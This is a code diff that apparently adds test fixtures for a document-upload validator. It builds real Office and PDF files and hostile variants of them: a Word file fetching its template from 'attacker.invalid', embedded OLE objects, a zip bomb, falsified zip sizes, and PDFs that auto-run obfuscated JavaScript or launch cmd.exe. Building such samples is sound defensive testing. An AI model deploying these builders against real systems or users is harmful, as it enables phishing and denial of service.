@@ -97,3 +97,262 @@ def _with_part(package: bytes, name: str, data: bytes, *, replace: bool = True) 
             out.writestr(info, source.read(info.filename))
         out.writestr(name, data)
     return buffer.getvalue()
+
+
+# --- Office packages for the evidence library ------------------------------------------
+
+_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE compound file's header
+_OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
+_MAIN_PART = {
+    "docx": ("word/document.xml", "word/_rels/document.xml.rels", "word/"),
+    "xlsx": ("xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels", "xl/"),
+    "pptx": ("ppt/slides/slide1.xml", "ppt/slides/_rels/slide1.xml.rels", "ppt/"),
+}
+
+
+def real_docx(text: str = "Inter-agency procedures") -> bytes:
+    from docx import Document
+
+    document = Document()
+    document.add_paragraph(text)
+    buffer = io.BytesIO()
+    document.save(buffer)
+    return buffer.getvalue()
+
+
+def real_xlsx() -> bytes:
+    from openpyxl import Workbook
+
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append(["Month", "Referrals"])
+    sheet.append(["2025-01", 40])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def real_pptx() -> bytes:
+    """A one-slide presentation with the parts PowerPoint needs."""
+    pml = "http://schemas.openxmlformats.org/presentationml/2006/main"
+    files = {
+        "[Content_Types].xml": f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_CT}">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        '<Default Extension="xml" ContentType="application/xml"/>'
+        '<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/>'
+        '<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>'
+        "</Types>",
+        "_rels/.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
+        f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="ppt/presentation.xml"/>'
+        "</Relationships>",
+        "ppt/presentation.xml": f'<?xml version="1.0" encoding="UTF-8"?><p:presentation xmlns:p="{pml}" '
+        f'xmlns:r="{_REL}"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>',
+        "ppt/_rels/presentation.xml.rels": f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
+        f'<Relationship Id="rId1" Type="{_REL}/slide" Target="slides/slide1.xml"/>'
+        "</Relationships>",
+        "ppt/slides/slide1.xml": f'<?xml version="1.0" encoding="UTF-8"?><p:sld xmlns:p="{pml}"><p:cSld/></p:sld>',
+    }
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
+        for name, text in files.items():
+            package.writestr(name, text)
+    return buffer.getvalue()
+
+
+REAL = {"docx": real_docx, "xlsx": real_xlsx, "pptx": real_pptx}
+
+
+def _add_relationship(
+    package: bytes, rels_part: str, rel_type: str, target: str, *, external: bool
+) -> bytes:
+    """The package with one more relationship in ``rels_part`` (made if missing)."""
+    source = zipfile.ZipFile(io.BytesIO(package))
+    mode = ' TargetMode="External"' if external else ""
+    entry = f'<Relationship Id="rIdHostile" Type="{rel_type}" Target="{escape(target)}"{mode}/>'
+    if rels_part in source.namelist():
+        text = source.read(rels_part).decode()
+        text = text.replace("</Relationships>", entry + "</Relationships>")
+    else:
+        text = (
+            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
+            f"{entry}</Relationships>"
+        )
+    return _with_part(package, rels_part, text.encode())
+
+
+def docx_with_remote_template(url: str = "http://attacker.invalid/template.dotm") -> bytes:
+    """A Word file that fetches its template from another server when opened (the way
+    remote-template phishing works): an external attachedTemplate relationship."""
+    return _add_relationship(
+        real_docx(), "word/_rels/settings.xml.rels", f"{_REL}/attachedTemplate", url, external=True
+    )
+
+
+def with_external_link(kind: str, rel_type: str, url: str) -> bytes:
+    _, rels, _ = _MAIN_PART[kind]
+    return _add_relationship(REAL[kind](), rels, f"{_REL}/{rel_type}", url, external=True)
+
+
+def with_ole_object(kind: str) -> bytes:
+    """The package with an embedded OLE object (an ``oleObject1.bin`` part, its content
+    type and the relationship from the main part), as Office writes one."""
+    _, rels, prefix = _MAIN_PART[kind]
+    package = _with_part(REAL[kind](), f"{prefix}embeddings/oleObject1.bin", _OLE_MAGIC)
+    source = zipfile.ZipFile(io.BytesIO(package))
+    types = source.read("[Content_Types].xml").decode()
+    types = types.replace(
+        "</Types>", f'<Default Extension="bin" ContentType="{_OLE_TYPE}"/></Types>'
+    )
+    package = _with_part(package, "[Content_Types].xml", types.encode())
+    return _add_relationship(
+        package, rels, f"{_REL}/oleObject", "../embeddings/oleObject1.bin", external=False
+    )
+
+
+def office_bomb(
+    kind: str = "docx", *, unpacked_mb: int, part: str = "[Content_Types].xml"
+) -> bytes:
+    """A real Word (or Excel, PowerPoint) file whose ``part`` is padded with
+    ``unpacked_mb`` MB of spaces, packed about 1,000 times: 800 MB unpack from 800 KB.
+    Written in 1 MB pieces, so building it costs no more memory than that."""
+    source = zipfile.ZipFile(io.BytesIO(REAL[kind]()))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
+        for info in source.infolist():
+            data = source.read(info.filename)
+            if info.filename != part:
+                out.writestr(info.filename, data)
+                continue
+            head, _, tail = data.decode().rpartition("</")
+            with out.open(part, "w", force_zip64=True) as stream:
+                stream.write(head.encode())
+                piece = b" " * (1024 * 1024)
+                for _ in range(unpacked_mb):
+                    stream.write(piece)
+                stream.write(b"</" + tail.encode())
+    return buffer.getvalue()
+
+
+def lying_sizes(package: bytes, part: str, claimed: int) -> bytes:
+    """The package with ``part``'s unpacked size rewritten to ``claimed`` in both the local
+    header and the central directory, as a hand-made zip bomb would (the checksum is left
+    as it was, so a reader that trusts the size unpacks the wrong amount)."""
+    import struct
+
+    data = bytearray(package)
+    name = part.encode()
+    local = data.find(b"PK\x03\x04")
+    while local != -1:
+        name_length = struct.unpack_from("<H", data, local + 26)[0]
+        if data[local + 30 : local + 30 + name_length] == name:
+            struct.pack_into("<I", data, local + 22, claimed)
+        local = data.find(b"PK\x03\x04", local + 4)
+    central = data.find(b"PK\x01\x02")
+    while central != -1:
+        name_length = struct.unpack_from("<H", data, central + 28)[0]
+        if data[central + 46 : central + 46 + name_length] == name:
+            struct.pack_into("<I", data, central + 24, claimed)
+        central = data.find(b"PK\x01\x02", central + 4)
+    return bytes(data)
+
+
+# --- PDFs -------------------------------------------------------------------------------
+
+
+def pdf_file(
+    objects: dict[int, bytes], *, packed: frozenset[int] | set[int] = frozenset(), info: bytes = b""
+) -> bytes:
+    """A PDF with the given numbered objects (1 is the catalog). Objects in ``packed`` go
+    into a compressed object stream, with a cross-reference stream, as PDF 1.5 writes them;
+    otherwise a classic cross-reference table."""
+    import zlib
+
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets: dict[int, int] = {}
+    loose = {n: body for n, body in objects.items() if n not in packed}
+    for number, body in sorted(loose.items()):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    info_ref = b""
+    size = max(objects) + 1
+    if info:
+        info_number = size
+        size += 1
+        offsets[info_number] = len(out)
+        out += b"%d 0 obj\n" % info_number + info + b"\nendobj\n"
+        info_ref = b" /Info %d 0 R" % info_number
+    if not packed:
+        xref = len(out)
+        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
+        for number in range(1, size):
+            out += (
+                b"%010d 00000 n \n" % offsets[number]
+                if number in offsets
+                else b"0000000000 65535 f \n"
+            )
+        out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
+            size,
+            info_ref,
+            xref,
+        )
+        return bytes(out)
+    stream_number, xref_number = size, size + 1
+    header, bodies = [], b""
+    for number in sorted(packed):
+        header.append(b"%d %d" % (number, len(bodies)))
+        bodies += objects[number] + b"\n"
+    first = b" ".join(header) + b"\n"
+    packed_data = zlib.compress(first + bodies)
+    offsets[stream_number] = len(out)
+    out += (
+        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+        % (stream_number, len(packed), len(first), len(packed_data))
+        + packed_data
+        + b"\nendstream\nendobj\n"
+    )
+    offsets[xref_number] = len(out)
+    entries = bytearray(b"\x00\x00\x00\x00\x00\xff\xff")
+    packed_index = {number: i for i, number in enumerate(sorted(packed))}
+    for number in range(1, xref_number + 1):
+        if number in packed_index:
+            entries += (
+                bytes([2])
+                + stream_number.to_bytes(4, "big")
+                + packed_index[number].to_bytes(2, "big")
+            )
+        elif number in offsets:
+            entries += bytes([1]) + offsets[number].to_bytes(4, "big") + b"\x00\x00"
+        else:
+            entries += b"\x00\x00\x00\x00\x00\xff\xff"
+    out += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R%s /Length %d >>\nstream\n"
+        % (xref_number, xref_number + 1, info_ref, len(entries))
+        + bytes(entries)
+        + b"\nendstream\nendobj\n"
+    )
+    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
+    return bytes(out)
+
+
+_PAGES = {
+    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+}
+
+
+def plain_pdf(*, info: bytes = b"") -> bytes:
+    return pdf_file({1: b"<< /Type /Catalog /Pages 2 0 R >>", **_PAGES}, info=info)
+
+
+def pdf_with_action(action: bytes, *, packed: bool = False) -> bytes:
+    """A one-page PDF that runs ``action`` when opened (its /OpenAction)."""
+    objects = {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", **_PAGES, 4: action}
+    return pdf_file(objects, packed={1, 4} if packed else set())
+
+
+HOSTILE_PDF_ACTIONS = {
+    "hex-escaped JavaScript": b"<< /Type /Action /S /J#61vaScript /JS (app.alert(1)) >>",
+    "hex-escaped Launch": b"<< /Type/Action/S/L#61unch/F(cmd.exe) >>",
+    "/JS( with no space": b"<</S/JavaScript/JS(app.alert(1))>>",
+}
